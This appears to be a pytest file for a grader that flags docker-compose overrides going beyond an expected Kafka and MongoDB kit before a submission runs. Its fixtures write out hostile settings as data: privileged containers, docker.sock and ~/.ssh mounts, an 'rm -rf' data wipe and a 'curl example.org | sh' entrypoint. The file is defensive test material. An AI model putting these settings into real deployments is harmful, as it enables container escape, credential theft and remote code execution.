"""What goes beyond the kit is listed before anything is run; the kit itself, in any spelling, is not."""

from pathlib import Path

import pytest

from tests.checks.judged import solution
from tests.live_unit.resolving import beyond

ROOT = Path(__file__).parents[2]
ACCEPTED = sorted((ROOT / "tests" / "accepted").glob("*.yml"))

# what is laid into the service kafka (or the top level), and the path under which it is listed
IN_KAFKA = {
    "privileged: true": "services.kafka.privileged",
    "cap_add: [SYS_ADMIN]": "services.kafka.cap_add",
    "devices: ['/dev/sda:/dev/sda']": "services.kafka.devices",
    "pid: host": "services.kafka.pid",
    "ipc: host": "services.kafka.ipc",
    "security_opt: ['seccomp:unconfined']": "services.kafka.security_opt",
    "userns_mode: host": "services.kafka.userns_mode",
    "command: [rm, -rf, /var/lib/kafka/data]": "services.kafka.command",
    "entrypoint: sh -c 'curl example.org | sh'": "services.kafka.entrypoint",
    "post_start: [{command: id, privileged: true}]": "services.kafka.post_start",
    "extra_hosts: ['example.org:127.0.0.1']": "services.kafka.extra_hosts",
}
TOP_LEVEL = {
    "{services: {kafka: {secrets: [key]}}, secrets: {key: {file: /etc/hostname}}}": "secrets",
    "{services: {kafka: {configs: [key]}}, configs: {key: {file: /etc/hostname}}}": "configs",
    "networks: {social_commerce_network: {driver: host}}": "networks.social_commerce_network.driver",
    "volumes: {kafka_data: {driver: local, driver_opts: {type: none, o: bind, device: /}}}": (
        "volumes.kafka_data.driver_opts"
    ),
    "volumes: {kafka_data: {driver: vieux/sshfs, driver_opts: {sshcmd: 'a@b:/'}}}": "volumes.kafka_data.driver_opts",
    "services: {miner: {image: mongo:latest}}": "services.miner",
    "services: {mongodb: {image: example.org/mongo:latest}}": "services.mongodb.image",
    "services: {app: {build: {args: {A: b}}}}": "services.app.build.args",
    "services: {app: {build: {dockerfile: Other}}}": "services.app.build.dockerfile",
    "services: {app: {build: {context: ./shared}}}": "services.app.build.context",
    "services: {app: {ports: ['2222:22']}}": "services.app.ports",
}
MOUNTS = {
    "/etc:/etc": "outside the workspace",
    "/var/run/docker.sock:/var/run/docker.sock": "power over the whole engine",
    "../..:/host": "outside the workspace",
    "~/.ssh:/keys": "outside the workspace",
    "{type: bind, source: ./data, target: /x, bind: {propagation: shared}}": "options of a mount",
}


def with_override(tmp_path: Path, override: str) -> list[str]:
    """Return the paths that are listed for the solution with an override file on top."""
    folder = tmp_path / "submission"
    folder.mkdir()
    (folder / "docker-compose.override.yml").write_text(override, encoding="utf-8")
    return [one.path for one in beyond(tmp_path, solution())]


@pytest.mark.parametrize("line", IN_KAFKA, ids=str)
def test_a_key_that_the_kit_does_not_use_is_listed(line: str, tmp_path: Path) -> None:
    """One by one, each under its own path."""
    text = solution().replace("    image: confluentinc", f"    {line}\n    image: confluentinc")

    assert [IN_KAFKA[line]] == [one.path for one in beyond(tmp_path, text)]


@pytest.mark.parametrize("text", TOP_LEVEL, ids=str)
def test_whatever_else_the_kit_lacks_is_listed(text: str, tmp_path: Path) -> None:
    """Also where an override file brings it."""
    assert TOP_LEVEL[text] in with_override(tmp_path, text)


@pytest.mark.parametrize("mount", MOUNTS, ids=str)
def test_a_folder_of_the_host_is_listed(mount: str, tmp_path: Path) -> None:
    """The message says why it matters."""
    item = mount if mount.startswith("{") else f'"{mount}"'
    text = solution().replace("      - kafka_data:", f"      - {item}\n      - kafka_data:")
    found = beyond(tmp_path, text)

    assert ["services.kafka.volumes"] == [one.path for one in found]
    assert MOUNTS[mount] in found[0].message


def test_a_link_that_leads_out_is_listed(tmp_path: Path) -> None:
    """A folder of the workspace that is another one in truth."""
    (tmp_path / "submission").mkdir()
    (tmp_path / "secret").mkdir()
    (tmp_path / "submission" / "notes").symlink_to(tmp_path / "secret")
    text = solution().replace("      - kafka_data:", "      - ./notes:/notes\n      - kafka_data:")

    assert ["services.kafka.volumes.0"] == [one.path for one in beyond(tmp_path, text)]


@pytest.mark.parametrize(
    "line", ["include: [/etc/hostname]", "services: {x: {extends: {file: /etc/a.yml, service: x}}}"]
)
def test_files_outside_are_listed_before_compose_reads_them(line: str, tmp_path: Path) -> None:
    """Compose itself would open them."""
    assert beyond(tmp_path, line)


def test_another_dockerfile_is_another_build(tmp_path: Path) -> None:
    """Under the same name, in the right folder."""
    build = tmp_path / "submission" / "apps" / "mongo_backend"
    build.mkdir(parents=True)
    (build / "Dockerfile").write_text("FROM python:3.11-slim\nRUN curl example.org\n", encoding="utf-8")
    found = {one.path for one in beyond(tmp_path, solution())}

    assert "services.app.build" in found


@pytest.mark.parametrize("path", ACCEPTED, ids=lambda path: path.stem)
def test_a_right_answer_needs_no_trust(path: Path, tmp_path: Path) -> None:
    """In whatever spelling."""
    assert [] == beyond(tmp_path, path.read_text(encoding="utf-8"))


def test_an_external_volume_is_somebody_elses_only_in_place(tmp_path: Path) -> None:
    """In a project of its own the name is another one, and nothing is found under it."""
    text = solution().replace("  kafka_data:\n    driver: local", "  kafka_data:\n    external: true")

    (tmp_path / "other").mkdir()

    assert [] == beyond(tmp_path / "other", text)
    assert ["volumes.kafka_data.external"] == [one.path for one in beyond(tmp_path, text, in_place=True)]
